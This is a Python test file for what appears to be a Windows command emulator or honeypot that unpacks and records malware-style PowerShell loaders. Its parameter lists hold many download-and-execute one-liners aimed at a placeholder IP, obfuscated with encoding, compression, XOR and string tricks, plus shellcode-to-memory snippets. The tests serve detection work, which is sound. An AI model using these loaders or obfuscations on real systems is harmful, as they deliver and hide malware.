"""PowerShell's one-liners, as loaders write them: plain, encoded, compressed, and taken apart in every way."""

from __future__ import annotations

import base64
import gzip
import zlib

import pytest

from world.windows.told import Told

URL = "http://198.51.100.7/a/x.exe"
PROGRAM = b"MZ" + bytes(range(256)) * 5


def encoded(script: str) -> str:
    return base64.b64encode(script.encode("utf-16-le")).decode()


def packed(script: str) -> str:
    return base64.b64encode(gzip.compress(script.encode())).decode()


def deflated(script: str) -> str:
    stream = zlib.compressobj(wbits=-15)
    return base64.b64encode(stream.compress(script.encode()) + stream.flush()).decode()


FILES = [
    f"powershell (New-Object System.Net.WebClient).DownloadFile('{URL}','y.exe')",
    f"powershell -nop -w hidden -ep bypass -c \"(New-Object Net.WebClient).DownloadFile('{URL}','y.exe');.\\y.exe\"",
    f"powershell.exe -NoP -NonI -W Hidden -Exec Bypass -Command \"iwr -useb {URL} -outfile y.exe; start y.exe\"",
    f"powershell Invoke-WebRequest -Uri {URL} -OutFile y.exe",
    f"powershell -c \"wget '{URL}' -O y.exe\"",
    f"powershell Start-BitsTransfer -Source {URL} -Destination y.exe",
    f"powershell \"$c=new-object net.webclient;$f='y'+'.exe';$c.DownloadFile('{URL}',$f);Start-Process $f\"",
    f"powershell -c \"$u='{URL}';$d=(New-Object Net.WebClient).DownloadData($u);[IO.File]::WriteAllBytes('y.exe',$d)\"",
    "powershell -enc " + encoded(f'(New-Object Net.WebClient).DownloadFile("{URL}","y.exe")'),
    "powershell -e " + encoded(f"iwr {URL} -OutFile y.exe"),
    "cmd /c po^wer^shell -EncodedCommand " + encoded(f"cmd.exe /c certutil -urlcache -f {URL} y.exe"),
    "powershell -c \"('DEMO'|%{(N`ew-Ob`ject Ne`t.W`ebClient).\\\"Down`loadFile\\\"(('ht'+'tp://198.51.'+'100.7/a/x.exe'),'y.exe')})\"",
    "powershell -c \"&('n'+'ew-obje'+'ct') net.webclient|%{$_.('Down'+'loadFile').Invoke('http://198.51.100.7/a/x.exe','y.exe')}\"",
    "powershell -c \"(New-Object Net.WebClient).DownloadFile((\\\"{1}{0}\\\" -f '198.51.100.7/a/x.exe','http://'),'y.exe')\"",
    "powershell -c \"$x=[char]104+'ttp://198.51.100.7/a/x.exe';foreach($u in $x.Split('@')){try{iwr $u -OutFile y.exe;break}catch{}}\"",  # noqa: E501
    "powershell -c \"iwr ('exe.x/a/7.001.15.891//:ptth'[-1..-27] -join '') -OutFile y.exe\"",
    "powershell -c \"iwr ('hZZp://198.51.100.7/a/x.exe' -replace 'Z','t') -o y.exe\"",
    "powershell -c \"$b=[Text.Encoding]::ASCII.GetString([Convert]::FromBase64String('"
    + base64.b64encode(URL.encode()).decode() + "'));if($b.Length -gt 5){iwr $b -OutFile y.exe}\"",
    "powershell -c \"iwr (-join(('68747470"
    + URL[4:].encode().hex() + "' -split '(..)')|?{$_}|%{[char][convert]::ToInt32($_,16)})) -OutFile y.exe\"",
    "powershell -c \"iwr (-join ((" + ",".join(str(ord(c) ^ 7) for c in URL) + ")|%{[char]($_ -bxor 7)})) -OutFile y.exe\"",  # noqa: E501
]  # fmt: skip


@pytest.mark.parametrize("line", FILES)
def test_a_file_is_fetched(line: str) -> None:
    told = Told(outside={URL: PROGRAM})
    told.run(line)
    assert told.wished == [URL]
    assert told.wishes[0].tool in ("powershell", "certutil")
    assert told.file("y.exe") == PROGRAM


SECOND = f"certutil -urlcache -f {URL} y.exe"
DOWNLOADER = f"(New-Object Net.WebClient).DownloadFile('{URL}','y.exe')"
STAGE = "http://198.51.100.7/s.ps1"
LAYERS = [
    f"powershell -nop -c \"IEX (New-Object Net.WebClient).DownloadString('{STAGE}')\"",
    f"powershell -nop -c \"IEX(iwr '{STAGE}' -UseBasicParsing).Content\"",
    f"powershell \"irm {STAGE} | iex\"",
    f"powershell -w 1 -c \"$w=New-Object -ComObject Msxml2.XMLHTTP;$w.open('GET','{STAGE}',$false);$w.send();iex $w.responseText\"",  # noqa: E501
    f"powershell \"sal a New-Object;iex(a IO.StreamReader((a Net.WebClient).OpenRead('{STAGE}'))).ReadToEnd()\"",
    f"powershell -c \"$r=[Net.WebRequest]::Create('{STAGE}').GetResponse();iex ((New-Object IO.StreamReader($r.GetResponseStream())).ReadToEnd())\"",  # noqa: E501
    f"powershell -c \"[ScriptBlock]::Create((irm {STAGE})).Invoke()\"",
]  # fmt: skip


@pytest.mark.parametrize("line", LAYERS)
def test_a_script_is_fetched_and_run(line: str) -> None:
    told = Told(outside={STAGE: DOWNLOADER.encode(), URL: PROGRAM})
    told.run(line)
    assert told.wished == [STAGE, URL]
    assert told.file("y.exe") == PROGRAM


PACKED = [
    "IEX(New-Object IO.StreamReader(New-Object IO.Compression.GzipStream((New-Object IO.MemoryStream(,[Convert]::"
    f"FromBase64String('{packed(DOWNLOADER)}'))),[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()",
    f"$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String(\"{packed(DOWNLOADER)}\"));IEX (New-Object "
    "IO.StreamReader(New-Object IO.Compression.GzipStream($s,[IO.Compression.CompressionMode]::Decompress))).ReadToEnd();",  # noqa: E501
    "( nEw-oBjECt  sYsTeM.iO.cOmPrEsSiOn.DeflateStream([system.io.memorystream] [convert]::frombase64string('"
    f"{deflated(DOWNLOADER)}'),[io.compression.compressionmode]::decompress )|fOrEAcH{{new-object io.streamreader( $_,"
    "[text.encoding]::ascii)}|foreach{$_.readtoend()})|& ((vaRIABlE '*mdr*').NaMe[3,11,2]-JoIn'')",
    f"&(gcm *ke-e*) ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('{encoded(DOWNLOADER)}')))",
    f". ($pshome[4]+$pshome[30]+'x') \"{DOWNLOADER}\"",
    "powershell -nop -e " + encoded('iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String("'
                                    + base64.b64encode(DOWNLOADER.encode()).decode() + '")))'),
]  # fmt: skip


@pytest.mark.parametrize("script", PACKED)
def test_layers_are_undone_and_kept(script: str) -> None:
    told = Told(outside={URL: PROGRAM})
    told.run(f"powershell -e {encoded(script)}")
    assert told.wished == [URL]
    assert script.encode() in [kept.data for kept in told.kept]
    if "$pshome" not in script:
        assert DOWNLOADER.encode() in [kept.data for kept in told.kept]


def test_layers_have_an_end() -> None:
    script = DOWNLOADER
    for _ in range(12):
        script = f"iex ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('{encoded(script)}')))"
        if len(script) > 30_000:
            break
    told = Told(outside={URL: PROGRAM})
    told.run(f'powershell -c "{script}"')
    assert told.shell.layers == 0
    told.run("powershell -c \"$a={iex 'iex $b'};$b='iex $b';iex $b\"")
    assert told.run("powershell -c \"'still '+'here'\"") == "still here\r\n"


def test_what_inflates_without_end_is_cut_off() -> None:
    bomb = base64.b64encode(gzip.compress(b"a" * (8 << 20))).decode()
    told = Told()
    told.run(f"powershell -c \"$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String('{bomb}'));"
             "$t=(New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($s,0))).ReadToEnd();$t.Length\"")  # fmt: skip  # noqa: E501
    assert told.purse.bytes_taken < 1 << 20


def test_shellcode_that_is_copied_into_memory_is_kept() -> None:
    code = bytes(range(1, 200))
    listed = ",".join(f"0x{byte:02x}" for byte in code)
    told = Told()
    told.run("powershell -e " + encoded(f"[Byte[]]$b = {listed}; $p = $k::VirtualAlloc(0,$b.Length,0x3000,0x40); "
             "[System.Runtime.InteropServices.Marshal]::Copy($b, 0, $p, $b.Length)"))  # fmt: skip
    assert [kept.data for kept in told.kept if kept.origin == "payload"] == [code]


def test_xored_shellcode_is_undone() -> None:
    code = bytes(range(1, 120))
    text = base64.b64encode(bytes(byte ^ 35 for byte in code)).decode()
    told = Told()
    told.run(
        "powershell -e "
        + encoded(f"""[Byte[]]$v = [System.Convert]::FromBase64String('{text}')
    for ($x = 0; $x -lt $v.Count; $x++) {{ $v[$x] = $v[$x] -bxor 35 }}
    [System.Runtime.InteropServices.Marshal]::Copy($v, 0, $m, $v.length)""")
    )
    assert [kept.data for kept in told.kept if kept.origin == "payload"] == [code]


@pytest.mark.parametrize(("script", "said"), [
    ("1+2*3", "7"), ("'{0:X2}-{1}' -f 255,'a'", "FF-a"), ("'a,b' -split ',' -join ';'", "a;b"), ("[char]65", "A"),
    ("(1..3|%{$_*2}) -join ' '", "2 4 6"), ("$a=@{x=1};$a.x", "1"), ("if (2 -gt 1) {'yes'} else {'no'}", "yes"),
    ("function f($n){ $n+1 } f 4", "5"), ("$i=0;while($i -lt 3){$i++};$i", "3"), ("\"a`tb $(1+1) $env:OS\"", "a\tb 2 Windows_NT"),  # noqa: E501
    ("'abc'.Substring(1).ToUpper()", "BC"), ("[Environment]::UserName", None), ("whoami", "nt authority\\system"),
    ("'x' -match '^[a-z]$'", "True"), ("try{throw 'a'}catch{'caught'}", "caught"), ("(Get-Location).Path", "C:\\Windows\\System32"),  # noqa: E501
    ("[string]::Join('-',(1,2))", "1-2"), ("'aXbX'.Replace('X','')", "ab"), ("@(1,2,3)[-1]", "3"),
])  # fmt: skip
def test_expressions(script: str, said: str | None) -> None:
    told = Told()
    out = told.run(f"powershell -e {encoded(script)}")
    if said is not None:
        assert out == f"{said}\r\n"


def test_powershell_that_is_typed_remembers() -> None:
    told = Told(outside={URL: PROGRAM})
    told.run("powershell")
    assert told.shell.prompt() == b"PS C:\\Windows\\System32> "
    told.run(f"$u = '{URL}'")
    told.run("iwr $u -OutFile y.exe")
    assert told.file("y.exe") == PROGRAM
    assert "is not recognized as the name of a cmdlet" in told.run("Get-Nonsense")
    told.run("exit")
    assert told.shell.prompt() == b"C:\\Windows\\System32>"


def test_what_is_not_understood_still_says_where_it_would_go() -> None:
    told = Told()
    told.run(f"powershell -c \"class X {{ [string]$a = )( '{URL}' }}\"")
    assert told.wished == [URL]
